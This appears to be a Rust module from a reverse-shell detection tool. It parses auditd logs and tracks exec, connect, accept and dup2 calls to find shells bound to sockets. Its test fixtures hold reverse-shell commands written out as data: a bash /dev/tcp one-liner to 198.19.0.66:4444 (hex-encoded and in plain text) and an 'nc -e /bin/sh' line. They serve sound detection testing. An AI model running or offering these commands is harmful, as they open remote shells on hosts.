//! auditd's log (`/var/log/audit/audit.log`, or `auditd -f` on stderr/stdout) as a process
//! source. The kernel writes one event as several records sharing a serial
//! (`msg=audit(1796159182.217:665)`): SYSCALL (who: pid, ppid, uid, comm, exe, the call and
//! its arguments), EXECVE (the argv, hex-encoded where it needs to be), SOCKADDR (the
//! address handed to connect or returned by accept), CWD and PROCTITLE. Records are grouped
//! by serial, and each finished event goes to the [`HostModel`]:
//! - execve: the process and its image (pid/ppid give the tree);
//! - connect, accept, accept4: a connection on an fd (AF_INET, AF_INET6);
//! - dup2, dup3: a socket moved onto fd 0, 1 or 2.
//!
//! auditd does not see the local port of a connect: the joiner matches such sockets by
//! the remote end and the time the connection was made. `deploy/auditd/shellsight.rules`
//! asks for exactly these calls.

use super::model::{HostModel, ProcessSighting, SocketSighting};
use super::SourceRecord;
use crate::error::{Error, Result};
use crate::inventory::Transport;
use crate::time::Timestamp;
use std::collections::BTreeMap;
use std::io::BufRead;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::Path;

/// Events still collecting records; the oldest is finished when more are pending (records
/// of one event arrive together, but neighbouring events may interleave a little).
const PENDING: usize = 32;

/// The calls this source understands, whatever the architecture numbers them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Call {
    Execve,
    Connect,
    Accept,
    Dup2,
    /// i386 `socketcall(2)`: connect/accept behind one number; the fd is not in a0..a3.
    Multiplexed,
}

/// `arch=` (AUDIT_ARCH_*) and `syscall=` → the call.
fn call(arch: u32, nr: u32) -> Option<Call> {
    use Call::*;
    match (arch, nr) {
        // x86_64
        (0xc000003e, 59 | 322) => Some(Execve),
        (0xc000003e, 42) => Some(Connect),
        (0xc000003e, 43 | 288) => Some(Accept),
        (0xc000003e, 33 | 292) => Some(Dup2),
        // i386 (and x86_64's 32-bit compat calls)
        (0x40000003, 11 | 358) => Some(Execve),
        (0x40000003, 362) => Some(Connect),
        (0x40000003, 364) => Some(Accept),
        (0x40000003, 63 | 330) => Some(Dup2),
        (0x40000003, 102) => Some(Multiplexed),
        // aarch64
        (0xc00000b7, 221 | 281) => Some(Execve),
        (0xc00000b7, 203) => Some(Connect),
        (0xc00000b7, 202 | 242) => Some(Accept),
        (0xc00000b7, 24) => Some(Dup2),
        _ => None,
    }
}

/// One record: its type, its event's time and serial, and its fields in order.
#[derive(Debug, Clone, PartialEq)]
pub struct Record {
    pub kind: String,
    pub node: Option<String>,
    pub at: Timestamp,
    pub serial: u64,
    pub fields: Vec<(String, Value)>,
    /// The enriched part after `\x1d` (`UID="root"`), when auditd wrote one.
    pub enriched: Vec<(String, String)>,
}

/// A field as written: `"quoted"` text, or bare (a number, a name, or hex-encoded text).
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Quoted(String),
    Bare(String),
}

impl Value {
    /// The text of an untrusted-string field: quoted as is, bare hex decoded (auditd
    /// hex-encodes a string that has spaces, quotes or control bytes in it), `(null)` none.
    pub fn text(&self) -> Option<String> {
        match self {
            Value::Quoted(s) => Some(s.clone()),
            Value::Bare(s) if s == "(null)" || s == "(none)" => None,
            Value::Bare(s) => Some(decode_hex(s).map(|b| lossy(&b)).unwrap_or_else(|| s.clone())),
        }
    }

    fn raw(&self) -> &str {
        match self {
            Value::Quoted(s) | Value::Bare(s) => s,
        }
    }
}

fn lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn decode_hex(s: &str) -> Option<Vec<u8>> {
    if s.is_empty() || s.len() % 2 != 0 || !s.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).ok()).collect()
}

/// Parses one line; `None` for a line that is not an audit record (a daemon message).
pub fn parse_line(line: &str) -> Option<Record> {
    let (main, enriched) = match line.split_once('\x1d') {
        Some((a, b)) => (a, Some(b)),
        None => (line, None),
    };
    let mut rest = main.trim_end();
    let mut node = None;
    if let Some(r) = rest.strip_prefix("node=") {
        let (n, r) = r.split_once(' ')?;
        node = Some(n.to_string());
        rest = r;
    }
    let rest = rest.strip_prefix("type=")?;
    let (kind, rest) = rest.split_once(' ')?;
    let rest = rest.strip_prefix("msg=audit(")?;
    let (stamp, rest) = rest.split_once("):")?;
    let (time, serial) = stamp.split_once(':')?;
    let (secs, frac) = time.split_once('.').unwrap_or((time, "0"));
    let secs: i64 = secs.parse().ok()?;
    let frac_ns: i64 = format!("{frac:0<9}").get(..9)?.parse().ok()?;
    let at = Timestamp::from_nanos(secs.checked_mul(1_000_000_000)?.checked_add(frac_ns)?);
    let serial = serial.parse().ok()?;
    let parsed = fields(rest);
    let enriched = enriched
        .map(|e| fields(e).into_iter().map(|(k, v)| (k, v.raw().to_string())).collect())
        .unwrap_or_default();
    Some(Record { kind: kind.to_string(), node, at, serial, fields: parsed, enriched })
}

/// `k=v k="v w" k='msg'` → pairs (a single-quoted `msg='...'` keeps its text as one value).
fn fields(s: &str) -> Vec<(String, Value)> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        while i < b.len() && b[i] == b' ' {
            i += 1;
        }
        let key_start = i;
        while i < b.len() && b[i] != b'=' && b[i] != b' ' {
            i += 1;
        }
        if i >= b.len() || b[i] != b'=' {
            continue;
        }
        let key = &s[key_start..i];
        i += 1;
        let value = match b.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let start = i + 1;
                let end = s[start..].find(q as char).map_or(s.len(), |e| start + e);
                i = (end + 1).min(s.len());
                Value::Quoted(s[start..end].to_string())
            }
            _ => {
                let start = i;
                while i < b.len() && b[i] != b' ' {
                    i += 1;
                }
                Value::Bare(s[start..i].to_string())
            }
        };
        out.push((key.to_string(), value));
    }
    out
}

/// The records of one event.
#[derive(Debug, Default)]
struct Event {
    at: Timestamp,
    node: Option<String>,
    records: Vec<Record>,
}

impl Event {
    fn record(&self, kind: &str) -> Option<&Record> {
        self.records.iter().find(|r| r.kind == kind)
    }
}

impl Record {
    pub fn get(&self, key: &str) -> Option<&Value> {
        self.fields.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    fn num(&self, key: &str) -> Option<i64> {
        self.get(key)?.raw().parse().ok()
    }

    fn hex(&self, key: &str) -> Option<u64> {
        u64::from_str_radix(self.get(key)?.raw(), 16).ok()
    }

    fn enriched(&self, key: &str) -> Option<&str> {
        self.enriched.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str())
    }
}

/// EXECVE's argv: `argc=N a0=.. a1=..`, long arguments split as `aN_len=L aN[0]=.. aN[1]=..`.
fn execve_args(r: &Record) -> Vec<String> {
    let argc = r.num("argc").unwrap_or(0).clamp(0, 4096) as usize;
    let mut args = Vec::with_capacity(argc);
    for n in 0..argc {
        let key = format!("a{n}");
        if let Some(v) = r.get(&key) {
            args.push(v.text().unwrap_or_default());
            continue;
        }
        let prefix = format!("a{n}[");
        let chunks: String = r
            .fields
            .iter()
            .filter(|(k, _)| k.starts_with(&prefix))
            .map(|(_, v)| v.raw().trim_matches('"').to_string())
            .collect();
        args.push(decode_hex(&chunks).map(|b| lossy(&b)).unwrap_or(chunks));
    }
    args
}

/// PROCTITLE: the argv, NUL-separated and hex-encoded (cut at 128 bytes by the kernel).
fn proctitle_args(r: &Record) -> Option<Vec<String>> {
    let raw = match r.get("proctitle")? {
        Value::Quoted(s) => s.as_bytes().to_vec(),
        Value::Bare(s) => decode_hex(s)?,
    };
    let args: Vec<String> = raw.split(|b| *b == 0).filter(|a| !a.is_empty()).map(lossy).collect();
    (!args.is_empty()).then_some(args)
}

/// SOCKADDR's `saddr`: a `struct sockaddr` in hex; AF_INET and AF_INET6 only.
pub fn decode_sockaddr(hex: &str) -> Option<(IpAddr, u16)> {
    let b = decode_hex(hex)?;
    let family = u16::from_le_bytes([*b.first()?, *b.get(1)?]);
    let port = u16::from_be_bytes([*b.get(2)?, *b.get(3)?]);
    match family {
        2 => {
            let a: [u8; 4] = b.get(4..8)?.try_into().ok()?;
            Some((IpAddr::V4(Ipv4Addr::from(a)), port))
        }
        10 => {
            let a: [u8; 16] = b.get(8..24)?.try_into().ok()?;
            Some((IpAddr::V6(Ipv6Addr::from(a)).to_canonical(), port))
        }
        _ => None,
    }
}

/// Groups records into events and feeds finished events to the model.
#[derive(Debug)]
pub struct AuditReader {
    model: HostModel,
    pending: BTreeMap<u64, Event>,
    /// Records read, events applied, lines that were not audit records.
    pub stats: ReaderStats,
}

#[derive(Debug, Default, Clone, Copy)]
pub struct ReaderStats {
    pub records: u64,
    pub events: u64,
    pub other_lines: u64,
}

impl AuditReader {
    /// `host` names the machine when the log has no `node=` prefix.
    pub fn new(host: &str) -> Self {
        AuditReader {
            model: HostModel::new(host, &format!("auditd:{host}")),
            pending: BTreeMap::new(),
            stats: ReaderStats::default(),
        }
    }

    /// Takes one line of the log.
    pub fn line(&mut self, line: &str) {
        let Some(rec) = parse_line(line) else {
            if !line.trim().is_empty() {
                self.stats.other_lines += 1;
            }
            return;
        };
        self.stats.records += 1;
        if rec.kind == "EOE" {
            if let Some(ev) = self.pending.remove(&rec.serial) {
                self.apply(ev);
            }
            return;
        }
        let ev = self.pending.entry(rec.serial).or_insert_with(|| Event {
            at: rec.at,
            node: rec.node.clone(),
            ..Event::default()
        });
        ev.records.push(rec);
        while self.pending.len() > PENDING {
            let Some((_, oldest)) = self.pending.pop_first() else { break };
            self.apply(oldest);
        }
    }

    /// Finishes every pending event (end of file, or the log went quiet).
    pub fn flush(&mut self) {
        while let Some((_, ev)) = self.pending.pop_first() {
            self.apply(ev);
        }
    }

    /// The records completed since the last call.
    pub fn take(&mut self) -> Vec<SourceRecord> {
        self.model.take()
    }

    fn apply(&mut self, ev: Event) {
        let Some(sys) = ev.record("SYSCALL") else { return };
        let (Some(arch), Some(nr)) = (sys.hex("arch"), sys.num("syscall")) else { return };
        let Some(call) = call(arch as u32, nr as u32) else { return };
        let (Some(pid), Some(ppid)) = (sys.num("pid"), sys.num("ppid")) else { return };
        self.stats.events += 1;
        if let Some(node) = &ev.node {
            self.model.set_host_name(node);
        }
        let success = sys.get("success").map(Value::raw) == Some("yes");
        let exit = sys.num("exit").unwrap_or(-1);
        let uid = sys.num("uid").and_then(|u| u32::try_from(u).ok());
        let mut who = ProcessSighting {
            key: pid.to_string(),
            pid: pid as i32,
            ppid: ppid as i32,
            parent_key: None,
            name: sys.get("comm").and_then(Value::text).unwrap_or_default(),
            executable: sys.get("exe").and_then(Value::text),
            args: ev.record("PROCTITLE").and_then(proctitle_args),
            cwd: None,
            uid,
            user: sys.enriched("UID").map(str::to_string),
        };
        let at = ev.at;
        match call {
            Call::Execve if success => {
                if let Some(e) = ev.record("EXECVE") {
                    who.args = Some(execve_args(e));
                }
                who.cwd = ev.record("CWD").and_then(|c| c.get("cwd")).and_then(Value::text);
                self.model.exec(at, &who);
            }
            Call::Connect | Call::Accept | Call::Multiplexed => {
                self.model.sighting(at, &who);
                // A non-blocking connect answers EINPROGRESS (-115) and goes on connecting.
                let made = success || (call != Call::Accept && exit == -115);
                let addr =
                    ev.record("SOCKADDR").and_then(|s| s.get("saddr")).and_then(|v| decode_sockaddr(v.raw()));
                if let (true, Some(remote)) = (made, addr) {
                    let fd = match call {
                        Call::Connect => sys.hex("a0").map(|a| a as i32),
                        Call::Accept => Some(exit as i32),
                        _ => None,
                    };
                    let s = SocketSighting { local: None, remote, transport: Transport::Tcp, fd };
                    self.model.socket(at, &who.key, &s);
                }
            }
            Call::Dup2 => {
                self.model.sighting(at, &who);
                if let (true, Some(old), Some(new)) = (success, sys.hex("a0"), sys.hex("a1")) {
                    self.model.dup(at, &who.key, old as i32, new as i32);
                }
            }
            Call::Execve => {
                self.model.sighting(at, &who);
            }
        }
    }
}

/// Reads a whole audit log.
pub fn read_file(path: &Path) -> Result<Vec<SourceRecord>> {
    let f = std::fs::File::open(path).map_err(|e| Error::io(path, e))?;
    let mut reader =
        AuditReader::new(&path.file_stem().map(|s| s.to_string_lossy().into_owned()).unwrap_or_default());
    let mut out = Vec::new();
    let mut buf = Vec::new();
    let mut lines = std::io::BufReader::new(f);
    loop {
        buf.clear();
        let n = lines.read_until(b'\n', &mut buf).map_err(|e| Error::io(path, e))?;
        if n == 0 {
            break;
        }
        reader.line(&String::from_utf8_lossy(&buf));
        out.extend(reader.take());
    }
    reader.flush();
    out.extend(reader.take());
    if reader.stats.records == 0 && reader.stats.other_lines > 0 {
        return Err(Error::input(format!(
            "{}: no audit records in it (is it an audit log?)",
            path.display()
        )));
    }
    tracing::info!(
        "{}: {} audit records, {} events used, {} other lines",
        path.display(),
        reader.stats.records,
        reader.stats.events,
        reader.stats.other_lines
    );
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Real lines from `auditd -f` with deploy/auditd/shellsight.rules (Debian 12, x86_64):
    /// a php-fpm worker runs `sh -c`, which runs `bash -c 'bash -i >& /dev/tcp/… 0>&1'`.
    const PHP_FPM: &str = r#"type=SYSCALL msg=audit(1796159181.517:661): arch=c000003e syscall=43 success=yes exit=5 a0=c a1=7ffc49029ce0 a2=7ffc49029cd8 a3=1 items=0 ppid=24718 pid=24723 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="php-fpm8.2" exe="/usr/sbin/php-fpm8.2" key="ss_accept"
type=SOCKADDR msg=audit(1796159181.517:661): saddr=0100
type=PROCTITLE msg=audit(1796159181.517:661): proctitle=7068702D66706D3A20706F6F6C20777777
type=SYSCALL msg=audit(1796159182.213:663): arch=c000003e syscall=59 success=yes exit=0 a0=7f1e33fb5031 a1=7ffc490277a0 a2=55f20ec8a280 a3=8 items=2 ppid=24723 pid=24797 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="ss_exec"
type=EXECVE msg=audit(1796159182.213:663): argc=3 a0="sh" a1="-c" a2=62617368202D63202762617368202D69203E26202F6465762F7463702F3139382E31392E302E36362F3434343420303E263127
type=CWD msg=audit(1796159182.213:663): cwd="/var/www"
type=PROCTITLE msg=audit(1796159182.213:663): proctitle=7068702D66706D3A20706F6F6C20777777
type=SYSCALL msg=audit(1796159182.213:664): arch=c000003e syscall=59 success=yes exit=0 a0=55745813c9b0 a1=55745813c968 a2=55745813c988 a3=8 items=2 ppid=24797 pid=24798 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="ss_exec"
type=EXECVE msg=audit(1796159182.213:664): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3139382E31392E302E36362F3434343420303E2631
type=SYSCALL msg=audit(1796159182.217:665): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=55b05e828ec0 a2=10 a3=7f0a735c4ac0 items=0 ppid=24798 pid=24799 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="ss_connect"
type=SOCKADDR msg=audit(1796159182.217:665): saddr=0200115CC61300420000000000000000
type=PROCTITLE msg=audit(1796159182.217:665): proctitle=62617368002D630062617368202D69203E26202F6465762F7463702F3139382E31392E302E36362F3434343420303E2631
type=SYSCALL msg=audit(1796159182.217:666): arch=c000003e syscall=33 success=yes exit=1 a0=3 a1=1 a2=0 a3=ad470989ccf4c239 items=0 ppid=24798 pid=24799 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="ss_dup"
type=SYSCALL msg=audit(1796159182.217:667): arch=c000003e syscall=33 success=yes exit=2 a0=1 a1=2 a2=0 a3=ad470989ccf4c239 items=0 ppid=24798 pid=24799 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="ss_dup"
type=SYSCALL msg=audit(1796159182.217:669): arch=c000003e syscall=33 success=yes exit=0 a0=1 a1=0 a2=55b03bc969bc a3=ad470989ccf4c239 items=0 ppid=24798 pid=24799 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="ss_dup"
type=SYSCALL msg=audit(1796159182.217:668): arch=c000003e syscall=288 success=yes exit=4 a0=3 a1=7fffad6e8ed0 a2=7fffad6e8eac a3=80000 items=0 ppid=24765 pid=24767 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="python3" exe="/usr/bin/python3.11" key="ss_accept"
type=SYSCALL msg=audit(1796159182.217:670): arch=c000003e syscall=59 success=yes exit=0 a0=55b05e828e40 a1=55b05e8290e0 a2=55b05e826d00 a3=8 items=2 ppid=24798 pid=24799 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key="ss_exec"
type=EXECVE msg=audit(1796159182.217:670): argc=2 a0="bash" a1="-i"
type=SYSCALL msg=audit(1796159184.845:841): arch=c000003e syscall=59 success=yes exit=0 a0=55b05e8312a0 a1=55b05e831150 a2=55b05e82e6f0 a3=8 items=2 ppid=24799 pid=24877 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="id" exe="/usr/bin/id" key="ss_exec"
type=EXECVE msg=audit(1796159184.845:841): argc=1 a0="id"
"#;

    /// A `struct sockaddr_in6` as SOCKADDR writes it: family, port, flow info, address, scope.
    fn inet6(port: u16, addr_hex: &str) -> String {
        format!("0A00{port:04X}00000000{addr_hex}00000000")
    }

    fn read(text: &str) -> Vec<SourceRecord> {
        let mut r = AuditReader::new("web1");
        let mut out = Vec::new();
        for line in text.lines() {
            r.line(line);
            out.extend(r.take());
        }
        r.flush();
        out.extend(r.take());
        out
    }

    #[test]
    fn records_parse_with_hex_encoded_fields() {
        let line = PHP_FPM.lines().nth(4).unwrap();
        let r = parse_line(line).expect("an audit record");
        assert_eq!((r.kind.as_str(), r.serial), ("EXECVE", 663));
        assert_eq!(r.at, Timestamp::from_nanos(1_796_159_182_213_000_000));
        assert_eq!(execve_args(&r), ["sh", "-c", "bash -c 'bash -i >& /dev/tcp/198.19.0.66/4444 0>&1'"]);
        let t = parse_line(PHP_FPM.lines().nth(2).unwrap()).unwrap();
        assert_eq!(proctitle_args(&t).unwrap(), ["php-fpm: pool www"]);
        // A long argument is split into chunks; node= prefixes and enriched fields.
        let long = "node=web1 type=EXECVE msg=audit(1700000000.5:9): argc=2 a0=\"sh\" a1_len=6 a1[0]=616263 a1[1]=646566\x1dARCH=x86_64";
        let r = parse_line(long).unwrap();
        assert_eq!(r.node.as_deref(), Some("web1"));
        assert_eq!(r.at, Timestamp::from_nanos(1_700_000_000_500_000_000));
        assert_eq!(execve_args(&r), ["sh", "abcdef"]);
        assert_eq!(r.enriched("ARCH"), Some("x86_64"));
        for bad in
            ["", "auditd started", "type=SYSCALL msg=audit(abc:1): x=1", "type=SYSCALL msg=audit(1.2:3"]
        {
            assert!(parse_line(bad).is_none(), "{bad:?}");
        }
    }

    #[test]
    fn sockaddrs_decode_inet_and_inet6_only() {
        assert_eq!(
            decode_sockaddr("0200115CC61300420000000000000000"),
            Some(("198.19.0.66".parse().unwrap(), 4444))
        );
        assert_eq!(
            decode_sockaddr(&inet6(4444, "FD000000000000000000000000000042")),
            Some(("fd00::42".parse().unwrap(), 4444))
        );
        // IPv4-mapped IPv6 is the IPv4 peer.
        assert_eq!(
            decode_sockaddr(&inet6(4444, "00000000000000000000FFFFC6130042")),
            Some(("198.19.0.66".parse().unwrap(), 4444))
        );
        assert_eq!(decode_sockaddr("0100"), None, "AF_UNIX");
        assert_eq!(decode_sockaddr("02001"), None);
        assert_eq!(decode_sockaddr("zz"), None);
    }

    #[test]
    fn the_shell_holds_the_socket_on_its_stdio_under_the_php_fpm_worker() {
        let recs = read(PHP_FPM);
        let last_bash = recs
            .iter()
            .rev()
            .find_map(|r| match r {
                SourceRecord::Socket(s) if s.process.as_ref().is_some_and(|p| p.pid == 24799) => {
                    Some(s.clone())
                }
                _ => None,
            })
            .expect("the shell holds the socket");
        assert_eq!(last_bash.destination.port, 4444);
        assert_eq!(last_bash.source.port, 0, "auditd does not see the local port");
        let p = last_bash.process.as_ref().unwrap();
        assert_eq!((p.name.as_str(), p.command_line.as_str()), ("bash", "bash -i"));
        assert!(p.std_sockets.all(), "{:?}", p.std_sockets);
        assert_eq!(last_bash.socket.fds, [0, 1, 2, 3]);
        let chain: Vec<&str> = p.ancestors.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(chain, ["bash", "sh", "php-fpm8.2"]);
        assert_eq!(p.ancestors[2].args, ["php-fpm: pool www"]);
        assert_eq!(p.user.id, 33);
        assert_eq!(p.exec_from.as_ref().map(|e| e.args.len()), Some(3), "bash -c … before bash -i");
        // The typed `id` is a command over the socket; the worker's unix accept is no socket.
        let cmds: Vec<&str> = recs
            .iter()
            .filter_map(|r| match r {
                SourceRecord::Exec(e) => Some(e.process.name.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(cmds, ["bash", "id"]);
        assert!(recs.iter().all(|r| match r {
            SourceRecord::Socket(s) => s.destination.port == 4444,
            _ => true,
        }));
    }

    #[test]
    fn nc_e_execs_the_shell_in_place_and_accept_gives_the_peer() {
        let log = r#"type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=500 pid=600 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="nc.traditional" exe="/usr/bin/nc.traditional" key="ss_exec"
type=EXECVE msg=audit(1700000000.100:10): argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="198.19.0.66" a4="4444"
type=SYSCALL msg=audit(1700000000.110:11): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=500 pid=600 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="nc.traditional" exe="/usr/bin/nc.traditional" key="ss_connect"
type=SOCKADDR msg=audit(1700000000.110:11): saddr=0200115CC61300420000000000000000
type=SYSCALL msg=audit(1700000000.120:12): arch=c000003e syscall=33 success=yes exit=0 a0=3 a1=0 a2=0 a3=0 items=0 ppid=500 pid=600 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="nc.traditional" exe="/usr/bin/nc.traditional" key="ss_dup"
type=SYSCALL msg=audit(1700000000.121:13): arch=c000003e syscall=33 success=yes exit=1 a0=3 a1=1 a2=0 a3=0 items=0 ppid=500 pid=600 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="nc.traditional" exe="/usr/bin/nc.traditional" key="ss_dup"
type=SYSCALL msg=audit(1700000000.130:14): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=500 pid=600 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="sh" exe="/usr/bin/dash" key="ss_exec"
type=EXECVE msg=audit(1700000000.130:14): argc=1 a0="/bin/sh"
type=SYSCALL msg=audit(1700000001.000:20): arch=c000003e syscall=43 success=yes exit=4 a0=3 a1=7ffd a2=7ffe a3=0 items=0 ppid=1 pid=700 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="socat" exe="/usr/bin/socat" key="ss_accept"
type=SOCKADDR msg=audit(1700000001.000:20): saddr=INET6
type=EOE msg=audit(1700000001.000:20):
"#;
        let recs = read(&log.replace("INET6", &inet6(54321, "FD000000000000000000000000000042")));
        let sockets: Vec<_> = recs
            .iter()
            .filter_map(|r| match r {
                SourceRecord::Socket(s) => Some(s.clone()),
                _ => None,
            })
            .collect();
        let sh = sockets.iter().rev().find(|s| s.destination.port == 4444).unwrap();
        let p = sh.process.as_ref().unwrap();
        assert_eq!(p.name, "sh");
        assert_eq!(p.exec_from.as_ref().unwrap().name, "nc.traditional");
        assert!(p.std_sockets.stdin && p.std_sockets.stdout && !p.std_sockets.stderr);
        let accepted = sockets.iter().find(|s| s.process.as_ref().unwrap().name == "socat").unwrap();
        assert_eq!(
            (accepted.destination.ip, accepted.destination.port),
            ("fd00::42".parse().unwrap(), 54321)
        );
        assert_eq!(accepted.socket.fds, [4]);
    }
}
